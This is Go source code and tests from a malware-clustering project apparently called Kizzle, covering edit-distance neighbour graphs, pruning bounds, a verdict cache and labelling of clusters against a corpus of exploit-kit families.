	// Length-sorted view: order[k] is a local index, sortedLens[k] its
	// sequence length.
	order := make([]int, n)
	for k := range order {
		order[k] = k
	}
	sort.Slice(order, func(a, b int) bool { return lens[order[a]] < lens[order[b]] })
	sortedLens := make([]int, n)
	for k, local := range order {
		sortedLens[k] = lens[local]
	}
	candidates := func(i int) []int {
		lo := sort.SearchInts(sortedLens, textdist.MinCandidateLen(lens[i], eps))
		hi := n
		// MaxCandidateLen saturates at MaxInt for eps >= 1 (everything is
		// a candidate); +1 would wrap negative and empty the window.
		if maxLen := textdist.MaxCandidateLen(lens[i], eps); maxLen < sortedLens[n-1] {
			hi = sort.SearchInts(sortedLens, maxLen+1)
		}
		return order[lo:hi]
	}
	scratches := make([]textdist.Scratch, workers)
	within := func(worker, a, b int) bool {
		return pairWithin(seqs, ids, cache, idx[a], idx[b], h.at(a), h.at(b), eps, &scratches[worker])
	}
	return dbscan.PrecomputeNeighbors(n, workers, candidates, within)
}

// sweepPairs evaluates within-eps pair tests with the same pruning kernel
// as neighborGraph — length windows, symbol/2-gram histogram lower bounds,
// the cross-run verdict cache — but over an explicit pair set, which is
// what the distributed reduce ships to shards as edge jobs:
//
//   - cols nil: triangular — every unordered pair of rows, reported as
//     ascending (i, j) positions into rows;
//   - cols non-nil: bipartite — every (row, col) pair, reported as
//     (row position, col position).
//
// rows and cols index into seqs; ids (aligned with seqs) and cache may be
// nil to disable verdict caching. The pair list is ascending row-major —
// fully deterministic — and rows are swept in parallel across workers.
func sweepPairs(seqs [][]jstoken.Symbol, ids []seqID, cache *contentcache.Cache,
	rows, cols []int, eps float64, workers int) [][2]int {
	if workers < 1 {
		workers = 1
	}
	triangular := cols == nil
	targets := cols
	if triangular {
		targets = rows
	}
	if len(rows) == 0 || len(targets) == 0 {
		return nil
	}

	// Histograms for every involved sequence, keyed by position in the
	// concatenated (rows, targets) view.
	view := make([]int, 0, len(rows)+len(targets))
	view = append(view, rows...)
	if !triangular {
		view = append(view, targets...)
	}
	h := newHistArena(seqs, view)
	rowHist := func(i int) histRef { return h.at(i) }
	targetHist := func(j int) histRef {
		if triangular {
			return h.at(j)
		}
		return h.at(len(rows) + j)
	}

	// Length-sorted view over target positions for the candidate window.
	order := make([]int, len(targets))
	for k := range order {
		order[k] = k
	}
	sort.Slice(order, func(a, b int) bool {
		return len(seqs[targets[order[a]]]) < len(seqs[targets[order[b]]])
	})
	sortedLens := make([]int, len(order))
	for k, pos := range order {
		sortedLens[k] = len(seqs[targets[pos]])
	}

	scratches := make([]textdist.Scratch, workers)
	perRow := make([][][2]int, len(rows))
	parallel.ForEach(len(rows), workers, 1, func(worker, ri int) {
		rowSeq := seqs[rows[ri]]
		lo := sort.SearchInts(sortedLens, textdist.MinCandidateLen(len(rowSeq), eps))
		hi := len(order)
		if maxLen := textdist.MaxCandidateLen(len(rowSeq), eps); maxLen < sortedLens[len(sortedLens)-1] {
			hi = sort.SearchInts(sortedLens, maxLen+1)
		}
		var hits [][2]int
		for _, tj := range order[lo:hi] {
			if triangular && tj <= ri {
				continue
			}
			if !pairWithin(seqs, ids, cache, rows[ri], targets[tj],
				rowHist(ri), targetHist(tj), eps, &scratches[worker]) {
				continue
			}
			hits = append(hits, [2]int{ri, tj})
		}
		sort.Slice(hits, func(a, b int) bool { return hits[a][1] < hits[b][1] })
		perRow[ri] = hits
	})
	var out [][2]int
	for _, hits := range perRow {
		out = append(out, hits...)
	}
	return out
}

// histArena holds per-sequence symbol and hashed-2-gram histograms in flat
// arenas (the sweepPairs counterpart of neighborGraph's inline arenas).
type histArena struct {
	alpha   int
	freqs   []int32
	bgFreqs []int32
}

type histRef struct {
	freq, bg []int32
}

const bigramBuckets = 256

func newHistArena(seqs [][]jstoken.Symbol, view []int) *histArena {
	// Size the arena to the symbols actually present rather than a fixed
	// profile alphabet: the L1 bound over absent symbols is zero either
	// way, so the output is identical for every alphabet width and the
	// sweep needs no profile threading.
	alpha := 1
	for _, si := range view {
		for _, sym := range seqs[si] {
			if int(sym) >= alpha {
				alpha = int(sym) + 1
			}
		}
	}
	h := &histArena{
		alpha:   alpha,
		freqs:   make([]int32, len(view)*alpha),
		bgFreqs: make([]int32, len(view)*bigramBuckets),
	}
	for k, si := range view {
		f := h.freqs[k*alpha : (k+1)*alpha]
		g := h.bgFreqs[k*bigramBuckets : (k+1)*bigramBuckets]
		seq := seqs[si]
		for i, sym := range seq {
			f[sym]++
			if i > 0 {
				g[(uint32(seq[i-1])*31+uint32(sym))&(bigramBuckets-1)]++
			}
		}
	}
	return h
}

func (h *histArena) at(k int) histRef {
	return histRef{
		freq: h.freqs[k*h.alpha : (k+1)*h.alpha],
		bg:   h.bgFreqs[k*bigramBuckets : (k+1)*bigramBuckets],
	}
}

// pairWithin runs the shared within-eps decision for one (a, b) sequence
// pair: histogram lower bounds, then the cached verdict, then the banded
// dynamic program. It mirrors neighborGraph's inline `within` exactly, so
// sweepPairs and neighborGraph agree on every pair.
func pairWithin(seqs [][]jstoken.Symbol, ids []seqID, cache *contentcache.Cache,
	a, b int, ha, hb histRef, eps float64, scratch *textdist.Scratch) bool {
	ml := len(seqs[a])
	if len(seqs[b]) > ml {
		ml = len(seqs[b])
	}
	if ml == 0 {
		return true
	}
	maxDist := int(eps * float64(ml))
	if l1Diff(ha.freq, hb.freq) > 2*maxDist {
		return false
	}
	if l1Diff(ha.bg, hb.bg) > 4*maxDist {
		return false
	}
	var pairKey string
	var key contentcache.Key
	if ids != nil && cache != nil {
		pairKey = pairVerdictKey(ids[a], ids[b], eps)
		key = contentcache.KeyOf(kindPairVerdict, pairKey)
		if v, ok := cache.Get(key, pairKey); ok {
			return v.(bool)
		}
	}
	ok := scratch.WithinNormalized(seqs[a], seqs[b], eps)
	if pairKey != "" {
		cache.Put(key, pairKey, ok)
	}
	return ok
}

// pairVerdictKey canonicalizes an unordered sequence pair plus the eps
// threshold into a cache key string.
func pairVerdictKey(a, b seqID, eps float64) string {
	if b.h1 < a.h1 || (b.h1 == a.h1 && (b.h2 < a.h2 || (b.h2 == a.h2 && b.n < a.n))) {
		a, b = b, a
	}
	buf := make([]byte, 0, 96)
	buf = strconv.AppendUint(buf, a.h1, 16)
	buf = append(buf, '.')
	buf = strconv.AppendUint(buf, a.h2, 16)
	buf = append(buf, '.')
	buf = strconv.AppendInt(buf, int64(a.n), 16)
	buf = append(buf, '|')
	buf = strconv.AppendUint(buf, b.h1, 16)
	buf = append(buf, '.')
	buf = strconv.AppendUint(buf, b.h2, 16)
	buf = append(buf, '.')
	buf = strconv.AppendInt(buf, int64(b.n), 16)
	buf = append(buf, '@')
	buf = strconv.AppendFloat(buf, eps, 'g', -1, 64)
	return string(buf)
}

// l1Diff returns the L1 distance between two equal-length histograms.
func l1Diff(a, b []int32) int {
	var sum int32
	for i, av := range a {
		d := av - b[i]
		if d < 0 {
			d = -d
		}
		sum += d
	}
	return int(sum)
}
