package pipeline

import (
	"sort"
	"strconv"

	"kizzle/internal/contentcache"
	"kizzle/internal/dbscan"
	"kizzle/internal/jstoken"
	"kizzle/internal/textdist"
)

// neighborGraph precomputes the eps region-query graph for the unique
// sequences selected by idx (indices into seqs), combining the three
// clustering-kernel optimizations:
//
//   - a length-sorted candidate index so a region query only tests
//     sequences whose length difference can still be within eps·max-len
//     (the length gap alone is a lower bound on edit distance);
//   - a symbol-frequency lower bound: one edit operation moves the
//     per-symbol histograms by at most an L1 mass of 2, so a pair whose
//     histogram L1 distance exceeds 2·maxDist cannot be within eps — an
//     O(alphabet) test that spares the O(band·len) dynamic program for
//     most cross-shape pairs;
//   - symmetric evaluation — each unordered pair is tested at most once;
//   - parallel evaluation across workers, each with its own reusable
//     textdist.Scratch, so the distance stage does not allocate and large
//     partitions no longer serialize on one goroutine.
//
//   - a cross-run verdict cache: each within-eps decision is
//     content-addressed by the pair's sequence identities (two
//     independent 64-bit hashes plus length, each side), so a day whose
//     unique sequences mostly recur re-reads yesterday's verdicts
//     instead of re-running the dynamic program. ids and cache may be nil
//     to disable.
//
// The resulting adjacency lists are in ascending order, making DBSCAN over
// them identical to the serial linear-scan implementation.
func neighborGraph(seqs [][]jstoken.Symbol, ids []seqID, cache *contentcache.Cache,
	idx []int, eps float64, workers int) dbscan.StaticNeighborer {
	n := len(idx)
	if workers < 1 {
		workers = 1
	}
	lens := make([]int, n)
	for k, ui := range idx {
		lens[k] = len(seqs[ui])
	}
	// Per-sequence symbol histograms plus hashed 2-gram histograms, in
	// flat arenas. The 2-gram profile is far more discriminative on token
	// streams (all JavaScript shares one symbol alphabet, but structure
	// differs), at a weaker per-edit bound: one edit disturbs at most two
	// 2-grams, so distance ≥ L1/4.
	const bigrams = 256
	alpha := jstoken.SymbolSpace()
	arena := make([]int32, n*alpha)
	bgArena := make([]int32, n*bigrams)
	freqs := make([][]int32, n)
	bgFreqs := make([][]int32, n)
	for k, ui := range idx {
		f := arena[k*alpha : (k+1)*alpha : (k+1)*alpha]
		g := bgArena[k*bigrams : (k+1)*bigrams : (k+1)*bigrams]
		seq := seqs[ui]
		for i, sym := range seq {
			f[sym]++
			if i > 0 {
				g[(uint32(seq[i-1])*31+uint32(sym))&(bigrams-1)]++
			}
		}
		freqs[k] = f
		bgFreqs[k] = g
	}
	// Length-sorted view: order[k] is a local index, sortedLens[k] its
	// sequence length.
	order := make([]int, n)
	for k := range order {
		order[k] = k
	}
	sort.Slice(order, func(a, b int) bool { return lens[order[a]] < lens[order[b]] })
	sortedLens := make([]int, n)
	for k, local := range order {
		sortedLens[k] = lens[local]
	}
	candidates := func(i int) []int {
		lo := sort.SearchInts(sortedLens, textdist.MinCandidateLen(lens[i], eps))
		hi := n
		// MaxCandidateLen saturates at MaxInt for eps >= 1 (everything is
		// a candidate); +1 would wrap negative and empty the window.
		if maxLen := textdist.MaxCandidateLen(lens[i], eps); maxLen < sortedLens[n-1] {
			hi = sort.SearchInts(sortedLens, maxLen+1)
		}
		return order[lo:hi]
	}
	scratches := make([]textdist.Scratch, workers)
	within := func(worker, a, b int) bool {
		// Mirror WithinNormalized's maxDist derivation exactly so the
		// lower bound is conservative with respect to the final check.
		ml := lens[a]
		if lens[b] > ml {
			ml = lens[b]
		}
		if ml == 0 {
			return true
		}
		maxDist := int(eps * float64(ml))
		if l1Diff(freqs[a], freqs[b]) > 2*maxDist {
			return false
		}
		if l1Diff(bgFreqs[a], bgFreqs[b]) > 4*maxDist {
			return false
		}
		var pairKey string
		var key contentcache.Key
		if ids != nil && cache != nil {
			pairKey = pairVerdictKey(ids[idx[a]], ids[idx[b]], eps)
			key = contentcache.KeyOf(kindPairVerdict, pairKey)
			if v, ok := cache.Get(key, pairKey); ok {
				return v.(bool)
			}
		}
		ok := scratches[worker].WithinNormalized(seqs[idx[a]], seqs[idx[b]], eps)
		if pairKey != "" {
			cache.Put(key, pairKey, ok)
		}
		return ok
	}
	return dbscan.PrecomputeNeighbors(n, workers, candidates, within)
}

// pairVerdictKey canonicalizes an unordered sequence pair plus the eps
// threshold into a cache key string.
func pairVerdictKey(a, b seqID, eps float64) string {
	if b.h1 < a.h1 || (b.h1 == a.h1 && (b.h2 < a.h2 || (b.h2 == a.h2 && b.n < a.n))) {
		a, b = b, a
	}
	buf := make([]byte, 0, 96)
	buf = strconv.AppendUint(buf, a.h1, 16)
	buf = append(buf, '.')
	buf = strconv.AppendUint(buf, a.h2, 16)
	buf = append(buf, '.')
	buf = strconv.AppendInt(buf, int64(a.n), 16)
	buf = append(buf, '|')
	buf = strconv.AppendUint(buf, b.h1, 16)
	buf = append(buf, '.')
	buf = strconv.AppendUint(buf, b.h2, 16)
	buf = append(buf, '.')
	buf = strconv.AppendInt(buf, int64(b.n), 16)
	buf = append(buf, '@')
	buf = strconv.AppendFloat(buf, eps, 'g', -1, 64)
	return string(buf)
}

// l1Diff returns the L1 distance between two equal-length histograms.
func l1Diff(a, b []int32) int {
	var sum int32
	for i, av := range a {
		d := av - b[i]
		if d < 0 {
			d = -d
		}
		sum += d
	}
	return int(sum)
}
