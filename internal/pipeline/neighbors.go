package pipeline

import (
	"sort"

	"kizzle/internal/dbscan"
	"kizzle/internal/jstoken"
	"kizzle/internal/textdist"
)

// neighborGraph precomputes the eps region-query graph for the unique
// sequences selected by idx (indices into seqs), combining the three
// clustering-kernel optimizations:
//
//   - a length-sorted candidate index so a region query only tests
//     sequences whose length difference can still be within eps·max-len
//     (the length gap alone is a lower bound on edit distance);
//   - symmetric evaluation — each unordered pair is tested at most once;
//   - parallel evaluation across workers, each with its own reusable
//     textdist.Scratch, so the distance stage does not allocate and large
//     partitions no longer serialize on one goroutine.
//
// The resulting adjacency lists are in ascending order, making DBSCAN over
// them identical to the serial linear-scan implementation.
func neighborGraph(seqs [][]jstoken.Symbol, idx []int, eps float64, workers int) dbscan.StaticNeighborer {
	n := len(idx)
	if workers < 1 {
		workers = 1
	}
	lens := make([]int, n)
	for k, ui := range idx {
		lens[k] = len(seqs[ui])
	}
	// Length-sorted view: order[k] is a local index, sortedLens[k] its
	// sequence length.
	order := make([]int, n)
	for k := range order {
		order[k] = k
	}
	sort.Slice(order, func(a, b int) bool { return lens[order[a]] < lens[order[b]] })
	sortedLens := make([]int, n)
	for k, local := range order {
		sortedLens[k] = lens[local]
	}
	candidates := func(i int) []int {
		lo := sort.SearchInts(sortedLens, textdist.MinCandidateLen(lens[i], eps))
		hi := n
		// MaxCandidateLen saturates at MaxInt for eps >= 1 (everything is
		// a candidate); +1 would wrap negative and empty the window.
		if maxLen := textdist.MaxCandidateLen(lens[i], eps); maxLen < sortedLens[n-1] {
			hi = sort.SearchInts(sortedLens, maxLen+1)
		}
		return order[lo:hi]
	}
	scratches := make([]textdist.Scratch, workers)
	within := func(worker, a, b int) bool {
		return scratches[worker].WithinNormalized(seqs[idx[a]], seqs[idx[b]], eps)
	}
	return dbscan.PrecomputeNeighbors(n, workers, candidates, within)
}
