package pipeline

import (
	"sort"
	"sync"

	"kizzle/internal/contentcache"
	"kizzle/internal/winnow"
)

// Corpus is the collection of known unpacked malware samples Kizzle is
// seeded with ("a collection of known unpacked malware samples (with
// exploit family labels)"). Cluster prototypes are labeled by comparing
// their winnow histogram against every corpus entry; the corpus grows over
// time as newly labeled cluster centroids are fed back, which is how Kizzle
// tracks kit drift day over day.
//
// Each family carries a content-derived generation (a digest of the
// family's current entries), so cached best-match verdicts are sliced per
// family: an Add to one family invalidates only that family's slice of a
// cached verdict, and a restarted process that reseeds the same corpus
// contents computes the same generations — a persisted label cache stays
// warm across restarts.
type Corpus struct {
	mu           sync.RWMutex
	cfg          winnow.Config
	maxPerFamily int
	entries      map[string][]corpusEntry
	// gens holds each family's content-derived generation, maintained on
	// every mutation of that family's entry list.
	gens map[string]uint64
	// families is the sorted family list, maintained on Add (families are
	// never removed), so read paths don't rebuild and re-sort it per call.
	families []string
	// version increases with every mutation (any family); kept for callers
	// that only need "did anything change".
	version uint64
}

type corpusEntry struct {
	hist    winnow.Histogram
	compact winnow.Compact
	text    string
	digest  uint64
}

// NewCorpus builds an empty corpus. maxPerFamily bounds memory: when a
// family exceeds it, the oldest entries are evicted (recent variants matter
// most for tracking).
func NewCorpus(cfg winnow.Config, maxPerFamily int) *Corpus {
	if maxPerFamily <= 0 {
		maxPerFamily = 32
	}
	return &Corpus{
		cfg:          cfg,
		maxPerFamily: maxPerFamily,
		entries:      make(map[string][]corpusEntry),
		gens:         make(map[string]uint64),
	}
}

// familyGen digests a family's entry list into its generation: FNV-1a over
// the entries' content digests in order. Depending only on contents (not on
// mutation counts or process lifetime), two corpora holding the same texts
// for a family agree on its generation — including across restarts.
func familyGen(entries []corpusEntry) uint64 {
	const prime = 1099511628211
	h := uint64(14695981039346656037)
	for _, e := range entries {
		for shift := 0; shift < 64; shift += 8 {
			h ^= (e.digest >> shift) & 0xff
			h *= prime
		}
	}
	return h
}

// Add inserts one labeled unpacked sample, bumping only that family's
// generation.
func (c *Corpus) Add(family, text string) {
	hist := winnow.Fingerprint(text, c.cfg)
	entry := corpusEntry{
		hist:    hist,
		compact: hist.Compact(),
		text:    text,
		digest:  contentcache.Digest(text),
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	old, existed := c.entries[family]
	list := append(old, entry)
	if len(list) > c.maxPerFamily {
		list = list[len(list)-c.maxPerFamily:]
	}
	c.entries[family] = list
	c.gens[family] = familyGen(list)
	if !existed {
		c.families = append(c.families, family)
		sort.Strings(c.families)
	}
	c.version++
}

// Version identifies the current corpus contents; it changes on every Add.
func (c *Corpus) Version() uint64 {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return c.version
}

// Generation returns a family's content-derived generation (0 for an
// unknown family). It changes exactly when the family's entry list changes
// — an Add to any other family leaves it untouched.
func (c *Corpus) Generation(family string) uint64 {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return c.gens[family]
}

// Families returns the known family labels in sorted order.
func (c *Corpus) Families() []string {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return append([]string(nil), c.families...)
}

// Size returns the number of entries stored for a family.
func (c *Corpus) Size(family string) int {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return len(c.entries[family])
}

// Config returns the winnow configuration corpus entries are
// fingerprinted with; callers producing histograms for BestMatchHist must
// use the same configuration.
func (c *Corpus) Config() winnow.Config { return c.cfg }

// BestMatch returns the family with the highest winnow overlap against the
// given unpacked text and that overlap. A corpus with no entries returns
// ("", 0).
func (c *Corpus) BestMatch(text string) (string, float64) {
	return c.BestMatchHist(winnow.Fingerprint(text, c.cfg))
}

// BestMatchHist is BestMatch over a pre-computed (possibly cached)
// histogram; hist is read, never mutated, so shared cached histograms are
// safe to pass concurrently. The probe is compacted once and swept
// against the entries' pre-compacted forms with a merge walk — the tight
// no-verdicts path for callers like the oracle that inspect one document
// at a time; cache-backed labeling goes through ResolveHist instead.
func (c *Corpus) BestMatchHist(hist winnow.Histogram) (string, float64) {
	probe := hist.Compact()
	c.mu.RLock()
	defer c.mu.RUnlock()
	bestFamily, bestOverlap := "", 0.0
	for _, f := range c.families { // sorted: deterministic tie-break
		for _, e := range c.entries[f] {
			if o := winnow.OverlapCompact(probe, e.compact); o > bestOverlap {
				bestFamily, bestOverlap = f, o
			}
		}
	}
	return bestFamily, bestOverlap
}

// FamilyVerdict is one family's best overlap against a probe, tagged with
// the generation of the family it was computed against. A verdict is
// reusable exactly while its family's generation is unchanged.
type FamilyVerdict struct {
	Family  string
	Gen     uint64
	Overlap float64
}

// ResolveHist sweeps the probe histogram against the corpus family by
// family, reusing any prior verdict whose generation still matches and
// recomputing only the stale (or new) families. It returns the refreshed
// per-family verdicts (sorted by family), the overall best match under the
// deterministic sorted-family tie-break, and how many family sweeps were
// actually executed — the label cache's per-family invalidation seam: an
// Add to one family forces exactly one sweep here, not a full corpus pass.
//
// The entire resolve runs under one read lock, so the verdicts are a
// consistent snapshot even while another goroutine Adds concurrently.
func (c *Corpus) ResolveHist(hist winnow.Histogram, prior []FamilyVerdict) (verdicts []FamilyVerdict, family string, best float64, swept int) {
	c.mu.RLock()
	defer c.mu.RUnlock()

	// Fully warm fast path: prior is this method's own sorted output, so if
	// it covers every family at its current generation the verdicts are
	// reusable as-is — the steady-state labeling hot loop does one ordered
	// walk with zero allocations instead of a sort + map + slice rebuild.
	if len(prior) == len(c.families) {
		warm := true
		for i, f := range c.families {
			if prior[i].Family != f || prior[i].Gen != c.gens[f] {
				warm = false
				break
			}
		}
		if warm {
			for _, v := range prior {
				if v.Overlap > best {
					family, best = v.Family, v.Overlap
				}
			}
			return prior, family, best, 0
		}
	}

	reuse := make(map[string]FamilyVerdict, len(prior))
	for _, v := range prior {
		reuse[v.Family] = v
	}

	// The probe is compacted once and swept against the entries'
	// pre-compacted forms with a merge walk — but only if some family
	// actually needs a sweep; a fully warm resolve never compacts.
	var probe winnow.Compact
	compacted := false

	verdicts = make([]FamilyVerdict, 0, len(c.families))
	for _, f := range c.families { // sorted: deterministic tie-break
		gen := c.gens[f]
		v, ok := reuse[f]
		if !ok || v.Gen != gen {
			if !compacted {
				probe = hist.Compact()
				compacted = true
			}
			v = FamilyVerdict{Family: f, Gen: gen}
			for _, e := range c.entries[f] {
				if o := winnow.OverlapCompact(probe, e.compact); o > v.Overlap {
					v.Overlap = o
				}
			}
			swept++
		}
		verdicts = append(verdicts, v)
		if v.Overlap > best {
			family, best = f, v.Overlap
		}
	}
	return verdicts, family, best, swept
}

// OverlapWith returns the best overlap against a single family's entries,
// used by the similarity-over-time experiment (Figure 11).
func (c *Corpus) OverlapWith(family, text string) float64 {
	hist := winnow.Fingerprint(text, c.cfg)
	c.mu.RLock()
	defer c.mu.RUnlock()
	best := 0.0
	for _, e := range c.entries[family] {
		if o := winnow.Overlap(hist, e.hist); o > best {
			best = o
		}
	}
	return best
}
