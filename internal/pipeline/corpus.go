package pipeline

import (
	"sort"
	"sync"

	"kizzle/internal/winnow"
)

// Corpus is the collection of known unpacked malware samples Kizzle is
// seeded with ("a collection of known unpacked malware samples (with
// exploit family labels)"). Cluster prototypes are labeled by comparing
// their winnow histogram against every corpus entry; the corpus grows over
// time as newly labeled cluster centroids are fed back, which is how Kizzle
// tracks kit drift day over day.
type Corpus struct {
	mu           sync.RWMutex
	cfg          winnow.Config
	maxPerFamily int
	entries      map[string][]corpusEntry
	// version increases with every mutation; cached best-match results are
	// valid only for the version they were computed against.
	version uint64
}

type corpusEntry struct {
	hist    winnow.Histogram
	compact winnow.Compact
	text    string
}

// NewCorpus builds an empty corpus. maxPerFamily bounds memory: when a
// family exceeds it, the oldest entries are evicted (recent variants matter
// most for tracking).
func NewCorpus(cfg winnow.Config, maxPerFamily int) *Corpus {
	if maxPerFamily <= 0 {
		maxPerFamily = 32
	}
	return &Corpus{
		cfg:          cfg,
		maxPerFamily: maxPerFamily,
		entries:      make(map[string][]corpusEntry),
	}
}

// Add inserts one labeled unpacked sample.
func (c *Corpus) Add(family, text string) {
	hist := winnow.Fingerprint(text, c.cfg)
	c.mu.Lock()
	defer c.mu.Unlock()
	list := append(c.entries[family], corpusEntry{hist: hist, compact: hist.Compact(), text: text})
	if len(list) > c.maxPerFamily {
		list = list[len(list)-c.maxPerFamily:]
	}
	c.entries[family] = list
	c.version++
}

// Version identifies the current corpus contents; it changes on every Add.
func (c *Corpus) Version() uint64 {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return c.version
}

// Families returns the known family labels in sorted order.
func (c *Corpus) Families() []string {
	c.mu.RLock()
	defer c.mu.RUnlock()
	out := make([]string, 0, len(c.entries))
	for f := range c.entries {
		out = append(out, f)
	}
	sort.Strings(out)
	return out
}

// Size returns the number of entries stored for a family.
func (c *Corpus) Size(family string) int {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return len(c.entries[family])
}

// Config returns the winnow configuration corpus entries are
// fingerprinted with; callers producing histograms for BestMatchHist must
// use the same configuration.
func (c *Corpus) Config() winnow.Config { return c.cfg }

// BestMatch returns the family with the highest winnow overlap against the
// given unpacked text and that overlap. A corpus with no entries returns
// ("", 0).
func (c *Corpus) BestMatch(text string) (string, float64) {
	return c.BestMatchHist(winnow.Fingerprint(text, c.cfg))
}

// BestMatchHist is BestMatch over a pre-computed (possibly cached)
// histogram; hist is read, never mutated, so shared cached histograms are
// safe to pass concurrently. The probe is compacted once and swept against
// the corpus entries' pre-compacted forms with a merge walk.
func (c *Corpus) BestMatchHist(hist winnow.Histogram) (string, float64) {
	probe := hist.Compact()
	c.mu.RLock()
	defer c.mu.RUnlock()
	bestFamily, bestOverlap := "", 0.0
	families := make([]string, 0, len(c.entries))
	for f := range c.entries {
		families = append(families, f)
	}
	sort.Strings(families) // deterministic tie-break
	for _, f := range families {
		for _, e := range c.entries[f] {
			if o := winnow.OverlapCompact(probe, e.compact); o > bestOverlap {
				bestFamily, bestOverlap = f, o
			}
		}
	}
	return bestFamily, bestOverlap
}

// OverlapWith returns the best overlap against a single family's entries,
// used by the similarity-over-time experiment (Figure 11).
func (c *Corpus) OverlapWith(family, text string) float64 {
	hist := winnow.Fingerprint(text, c.cfg)
	c.mu.RLock()
	defer c.mu.RUnlock()
	best := 0.0
	for _, e := range c.entries[family] {
		if o := winnow.Overlap(hist, e.hist); o > best {
			best = o
		}
	}
	return best
}
