package pipeline

import (
	"testing"

	"kizzle/internal/contentcache"
	"kizzle/internal/ekit"
	"kizzle/internal/winnow"
)

// TestCorpusGenerations pins the generation contract the label cache
// depends on: generations are per family (an Add to one family leaves the
// others untouched), content-derived (two corpora holding the same texts
// agree, so a restarted process keeps its warm label cache), and move on
// every entry-list change, evictions included.
func TestCorpusGenerations(t *testing.T) {
	c := NewCorpus(winnow.DefaultConfig(), 3)
	if g := c.Generation("Angler"); g != 0 {
		t.Fatalf("unknown family generation = %d, want 0", g)
	}
	c.Add("Angler", "payload angler one")
	c.Add("RIG", "payload rig one")
	gAngler, gRIG := c.Generation("Angler"), c.Generation("RIG")
	if gAngler == 0 || gRIG == 0 || gAngler == gRIG {
		t.Fatalf("generations not distinct and nonzero: %d %d", gAngler, gRIG)
	}

	// An Add to RIG must not move Angler.
	c.Add("RIG", "payload rig two")
	if c.Generation("Angler") != gAngler {
		t.Fatal("Add to RIG moved Angler's generation")
	}
	if c.Generation("RIG") == gRIG {
		t.Fatal("Add to RIG did not move RIG's generation")
	}

	// Content-derived: rebuilding the same corpus reproduces the same
	// generations (the restart-warm property), while different content
	// does not.
	c2 := NewCorpus(winnow.DefaultConfig(), 3)
	c2.Add("Angler", "payload angler one")
	c2.Add("RIG", "payload rig one")
	c2.Add("RIG", "payload rig two")
	if c2.Generation("Angler") != c.Generation("Angler") || c2.Generation("RIG") != c.Generation("RIG") {
		t.Fatal("identical corpus contents produced different generations")
	}
	c3 := NewCorpus(winnow.DefaultConfig(), 3)
	c3.Add("Angler", "a different angler payload")
	if c3.Generation("Angler") == c.Generation("Angler") {
		t.Fatal("different contents produced the same generation")
	}

	// Eviction (maxPerFamily = 3) changes the entry list, so the
	// generation must move even though the newest entries recur.
	c.Add("RIG", "payload rig three")
	beforeEvict := c.Generation("RIG")
	c.Add("RIG", "payload rig four") // evicts "payload rig one"
	if c.Generation("RIG") == beforeEvict {
		t.Fatal("eviction did not move the generation")
	}
	if c.Size("RIG") != 3 {
		t.Fatalf("RIG size = %d, want 3", c.Size("RIG"))
	}
}

// TestResolveHistMatchesBruteForce pins ResolveHist's best-match result
// against the direct per-entry sweep, including the deterministic
// sorted-family tie-break, and checks verdict reuse returns the same
// answer with zero sweeps.
func TestResolveHistMatchesBruteForce(t *testing.T) {
	cfg := winnow.DefaultConfig()
	c := NewCorpus(cfg, 8)
	day := ekit.Date(8, 10)
	for _, fam := range ekit.Families {
		c.Add(fam.String(), ekit.Payload(fam, day-1))
		c.Add(fam.String(), ekit.Payload(fam, day-2))
	}
	probeText := ekit.Payload(ekit.FamilyAngler, day)
	hist := winnow.Fingerprint(probeText, cfg)

	// Brute force: per-family max, sorted sweep, strictly-greater wins.
	wantFam, wantBest := "", 0.0
	for _, fam := range c.Families() {
		if o := c.OverlapWith(fam, probeText); o > wantBest {
			wantFam, wantBest = fam, o
		}
	}

	verdicts, fam, best, swept := c.ResolveHist(hist, nil)
	if fam != wantFam || best != wantBest {
		t.Fatalf("ResolveHist = (%q, %v), brute force = (%q, %v)", fam, best, wantFam, wantBest)
	}
	if swept != len(c.Families()) {
		t.Fatalf("cold resolve swept %d families, want %d", swept, len(c.Families()))
	}

	// Warm: all generations match, nothing sweeps, same answer.
	verdicts2, fam2, best2, swept2 := c.ResolveHist(hist, verdicts)
	if swept2 != 0 {
		t.Fatalf("warm resolve swept %d families, want 0", swept2)
	}
	if fam2 != fam || best2 != best {
		t.Fatal("warm resolve changed the best match")
	}

	// Bump one family: exactly one sweep, and since the added entry is a
	// duplicate of an existing one the overlaps — and the labels they
	// imply — cannot change.
	c.Add("RIG", ekit.Payload(ekit.FamilyRIG, day-1))
	verdicts3, fam3, best3, swept3 := c.ResolveHist(hist, verdicts2)
	if swept3 != 1 {
		t.Fatalf("post-bump resolve swept %d families, want 1 (RIG only)", swept3)
	}
	if fam3 != fam || best3 != best {
		t.Fatal("duplicate-content generation bump changed the best match")
	}
	for i := range verdicts3 {
		if verdicts3[i].Overlap != verdicts2[i].Overlap {
			t.Fatalf("family %s overlap moved on duplicate add", verdicts3[i].Family)
		}
	}
}

// TestBestMatchCachedPerFamilyInvalidation drives the label cache the way
// labelClusters does and asserts the tentpole's incremental-labeling
// contract: warm lookups sweep nothing, a one-family corpus bump re-sweeps
// exactly that family, and verdicts never change when the bump carries
// duplicate content.
func TestBestMatchCachedPerFamilyInvalidation(t *testing.T) {
	cfg := winnow.DefaultConfig()
	corpus := NewCorpus(cfg, 8)
	day := ekit.Date(8, 12)
	for _, fam := range ekit.Families {
		corpus.Add(fam.String(), ekit.Payload(fam, day-1))
	}
	cache := contentcache.New(8 << 20)
	payloads := make([]string, 0, len(ekit.Families))
	for _, fam := range ekit.Families {
		payloads = append(payloads, ekit.Payload(fam, day))
	}

	families := len(corpus.Families())
	type verdict struct {
		family  string
		overlap float64
	}
	cold := make([]verdict, len(payloads))
	for i, p := range payloads {
		f, o, swept := bestMatchCached(cache, nil, corpus, p)
		if swept != families {
			t.Fatalf("cold lookup %d swept %d, want %d", i, swept, families)
		}
		cold[i] = verdict{f, o}
	}
	for i, p := range payloads {
		f, o, swept := bestMatchCached(cache, nil, corpus, p)
		if swept != 0 {
			t.Fatalf("warm lookup %d swept %d, want 0", i, swept)
		}
		if (verdict{f, o}) != cold[i] {
			t.Fatalf("warm lookup %d diverged", i)
		}
	}

	// Duplicate-content bump of one family: every payload re-sweeps only
	// that family, and no verdict moves.
	corpus.Add("Nuclear", ekit.Payload(ekit.FamilyNuclear, day-1))
